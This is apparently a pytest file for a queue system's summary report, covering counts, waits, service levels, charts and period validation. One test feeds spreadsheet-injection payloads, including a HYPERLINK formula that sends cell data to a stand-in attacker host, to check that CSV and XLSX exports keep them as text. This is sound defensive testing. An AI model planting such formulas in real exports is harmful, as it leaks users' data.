"""The summary report against a scenario whose answers are known in advance.

Two business days, tickets issued, called, started, finished, skipped, cancelled and
transferred at set times on a FakeClock; every count, mean, median, p90 and service
level is checked exactly, on SQLite and PostgreSQL (the db_url fixture).
"""

from __future__ import annotations

from datetime import date

import pytest

from server.problems import Problem
from server.queue.rules import QueueService
from server.queue.site import Site
from server.reports.exports import summary_table
from server.reports.summary import Figures, SummaryReport, SummaryRow, summary_report
from server.store.db import Store
from tests.server.conftest import FakeClock
from tests.server.report_scenario import MON, TUE, play


@pytest.fixture
def scenario(queue: QueueService, clock: FakeClock) -> QueueService:
    play(queue, clock)
    return queue


def fig(count: int, mean: float, median: float, p90: float) -> Figures:
    return Figures(count=count, mean=mean, median=median, p90=p90)


def report(store: Store, site: Site, group: str, charts: bool = False) -> SummaryReport:
    with store.read() as s:
        return summary_report(s, site, MON, TUE, group, charts=charts)


def by_key(rep: SummaryReport) -> dict[str, SummaryRow]:
    return {r.key: r for r in rep.rows}


IZIN_WAIT = fig(5, 22.8, 25.0, 40.0)  # 4, 10, 25, 35, 40
IZIN_SERVICE = fig(4, 8.0, 8.0, 10.0)  # 5, 8, 9, 10
IZIN_BUILDING = fig(4, 36.0, 20.0, 60.0)  # 14, 20, 50, 60


def test_by_service_every_figure(scenario: QueueService, store: Store, site: Site) -> None:
    rep = report(store, site, "service")
    rows = by_key(rep)
    assert rep.days == 2
    # Every service of the site has a row, in the site's order, even with no tickets.
    assert [r.key for r in rep.rows] == list(site.services)
    izin = rows["IZIN"]
    assert (izin.issued, izin.served, izin.no_show, izin.cancelled, izin.transferred) == (
        6,
        4,
        1,
        1,
        0,
    )
    assert (izin.priority, izin.priority_share, izin.walk_in, izin.online) == (1, 16.7, 6, 0)
    assert izin.wait == IZIN_WAIT
    assert izin.service == IZIN_SERVICE
    assert izin.building == IZIN_BUILDING
    assert (izin.called, izin.within_target, izin.service_level) == (5, 3, 60.0)
    ktp = rows["KTP"]
    assert (ktp.issued, ktp.served, ktp.transferred, ktp.called) == (1, 0, 1, 1)
    assert ktp.wait == fig(1, 10.0, 10.0, 10.0)
    assert ktp.service == Figures() and ktp.building == Figures()
    assert ktp.service_level == 100.0
    empty = rows["JKN"]
    assert (empty.issued, empty.wait, empty.service_level) == (0, Figures(), None)
    total = rep.total
    assert (total.issued, total.served, total.no_show, total.cancelled, total.transferred) == (
        7,
        4,
        1,
        1,
        1,
    )
    assert (total.priority_share, total.called, total.within_target) == (14.3, 6, 4)
    assert total.service_level == 66.7
    assert total.wait == fig(6, 20.7, 10.0, 40.0)  # 4, 10, 10, 25, 35, 40
    assert total.service == IZIN_SERVICE
    assert total.building == IZIN_BUILDING


def test_by_agency_counter_officer(scenario: QueueService, store: Store, site: Site) -> None:
    agencies = by_key(report(store, site, "agency"))
    assert agencies["DPMPTSP"].issued == 6 and agencies["DPMPTSP"].wait == IZIN_WAIT
    assert agencies["DUKCAPIL"].issued == 1 and agencies["DUKCAPIL"].transferred == 1
    assert agencies["DPMPTSP"].label == site.agencies["DPMPTSP"].name

    counters = by_key(report(store, site, "counter"))
    assert set(counters) == {"L01", "L03", ""}  # "": never called (cancelled, waiting)
    assert (counters["L01"].issued, counters["L01"].served, counters["L01"].no_show) == (4, 4, 1)
    assert counters["L01"].wait == IZIN_WAIT
    assert (counters[""].issued, counters[""].cancelled, counters[""].called) == (2, 1, 0)
    assert counters["L03"].wait == fig(1, 10.0, 10.0, 10.0)

    officers = by_key(report(store, site, "officer"))
    assert set(officers) == {"budi", "sari", ""}
    assert officers["budi"].service == IZIN_SERVICE
    assert officers["sari"].transferred == 1


def test_by_priority_group(scenario: QueueService, store: Store, site: Site) -> None:
    """A002 (lansia) waited 10 and was served 8 minutes; everyone else is "umum"."""
    rep = report(store, site, "priority_group")
    rows = by_key(rep)
    assert [r.key for r in rep.rows] == ["lansia", "disabilitas", "ibu_hamil", "balita", "umum"]
    lansia = rows["lansia"]
    assert (lansia.issued, lansia.served, lansia.priority, lansia.priority_share) == (
        1,
        1,
        1,
        100.0,
    )
    assert lansia.wait == fig(1, 10.0, 10.0, 10.0)
    assert lansia.service == fig(1, 8.0, 8.0, 8.0)
    assert lansia.building == fig(1, 20.0, 20.0, 20.0)
    assert (lansia.within_target, lansia.service_level) == (1, 100.0)
    assert rows["disabilitas"].issued == 0 and rows["disabilitas"].wait == Figures()
    umum = rows["umum"]
    assert umum.issued == rep.total.issued - 1 and umum.served == rep.total.served - 1
    assert umum.priority == 0
    assert rep.total.issued == sum(r.issued for r in rep.rows)


def test_by_hour_and_weekday(scenario: QueueService, store: Store, site: Site) -> None:
    hours = by_key(report(store, site, "hour"))
    assert set(hours) == {"8", "9"}  # local hours (WIB), not UTC
    assert hours["8"].issued == 1 and hours["8"].label == "08.00-08.59"
    assert hours["9"].issued == 6 and hours["9"].served == 3
    days = by_key(report(store, site, "weekday"))
    assert days["0"].label == "Senin" and days["0"].issued == 6
    assert days["1"].label == "Selasa" and days["1"].wait == fig(1, 4.0, 4.0, 4.0)


def test_charts(scenario: QueueService, store: Store, site: Site) -> None:
    charts = report(store, site, "service", charts=True).charts
    assert charts is not None
    assert [(d.day, d.issued, d.served) for d in charts.per_day] == [(MON, 6, 3), (TUE, 1, 1)]
    assert charts.arrivals[0][9] == 6 and charts.arrivals[1][8] == 1
    assert sum(map(sum, charts.arrivals)) == 7
    # waits 4, 10, 10, 25, 35, 40 minutes in 5-minute buckets
    assert charts.wait_buckets == [1, 0, 2, 0, 0, 1, 0, 1, 1, 0, 0, 0, 0]


def test_a_period_outside_the_tickets_is_empty(
    scenario: QueueService, store: Store, site: Site
) -> None:
    with store.read() as s:
        rep = summary_report(s, site, date(2026, 10, 1), date(2026, 10, 31), "service")
    assert rep.total.issued == 0 and rep.total.wait == Figures()


@pytest.mark.parametrize(
    ("a", "b", "group"),
    [
        (date(2026, 12, 2), date(2026, 12, 1), "service"),
        (date(2025, 1, 1), date(2026, 12, 1), "service"),
        (date(2026, 12, 1), date(2026, 12, 1), "nope"),
        (date(1999, 12, 1), date(2000, 1, 1), "service"),
    ],
)
def test_bad_periods_are_422(store: Store, site: Site, a: date, b: date, group: str) -> None:
    with store.read() as s, pytest.raises(Problem) as err:
        summary_report(s, site, a, b, group)
    assert err.value.status == 422


def test_the_terminal_table(scenario: QueueService, store: Store, site: Site) -> None:
    lines = summary_table(report(store, site, "service")).splitlines()
    assert lines[0] == "MPP Kabupaten Jombang: 2026-11-30 .. 2026-12-01 (2 days, minutes)"
    izin = next(line for line in lines if line.startswith("Perizinan"))
    assert izin.split()[1:] == [
        "6",
        "4",
        "1",
        "1",
        "0",
        "16.7",
        "22.8",
        "25.0",
        "40.0",
        "8.0",
        "10.0",
        "36.0",
        "60.0",
    ]
    total = next(line for line in lines if line.startswith("Jumlah"))
    assert total.split()[:3] == ["Jumlah", "7", "4"]
    # then the figures counted apart: nothing stopped, nobody asked for help
    assert lines[-4:] == [
        "Antrean tak terlayani karena layanan dihentikan: 0",
        "Panggilan Butuh bantuan: 0",
        "Ditangani petugas: 0",
        "Median waktu sampai ditangani (menit): -",
    ]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]


def test_names_that_look_like_formulas_stay_text_in_csv_and_xlsx(
    scenario: QueueService, store: Store, site: Site
) -> None:
    """OWASP's CSV injection: the page, the API and `antrian report summary` all write these
    through server/reports/exports.py."""
    import csv
    import io

    from openpyxl import load_workbook

    from server.reports.exports import summary_csv, summary_xlsx

    rep = report(store, site, "agency")
    rows = [
        r.model_copy(update={"label": FORMULAS[i % len(FORMULAS)]}) for i, r in enumerate(rep.rows)
    ]
    rep = rep.model_copy(update={"rows": rows})
    labels = [line[4] for line in list(csv.reader(io.StringIO(summary_csv(rep))))[1:-1]]
    assert labels and all(x.startswith("'") for x in labels), labels
    assert [x[1:] for x in labels] == [r.label for r in rows]
    ws = load_workbook(io.BytesIO(summary_xlsx(rep))).active
    assert ws is not None
    cells = [ws.cell(row=6 + i, column=1) for i in range(len(rows))]
    assert [(c.data_type, c.value) for c in cells] == [("s", r.label) for r in rows]


@pytest.mark.parametrize("kind", ["day", "week", "month", "custom"])
@pytest.mark.parametrize("day", [date(9999, 12, 31), date(1, 1, 1), date(3000, 1, 1)])
def test_a_far_date_is_a_422_for_every_period(kind: str, day: date) -> None:
    """The reports page's period=week&from=9999-12-31 was a 500 (a week past the calendar)."""
    from server.reports.summary import period_of

    with pytest.raises(Problem) as refused:
        period_of(kind, day, day)
    assert (refused.value.status, refused.value.code) == (422, "invalid_period")
    assert "out of range" in refused.value.message


def test_far_dates_on_the_api_and_the_cli(live, db_url: str) -> None:  # type: ignore[no-untyped-def]
    from tests.server.test_cli import antrian

    with live.client() as c:
        token = c.post("/sessions", json={"username": "admin", "password": "demo-admin-2026"})
    headers = {"Authorization": f"Bearer {token.json()['token']}"}
    with live.client() as c:
        for a, b in (("9999-12-31", "9999-12-31"), ("2026-01-01", "9999-12-31")):
            r = c.get("/reports/summary", params={"from": a, "to": b}, headers=headers)
            assert (r.status_code, r.json()["code"]) == (422, "invalid_period"), r.text
    done = antrian(
        "report", "summary", "--from", "9999-12-31", "--to", "9999-12-31", "--db", db_url
    )
    assert done.returncode == 2 and "out of range" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
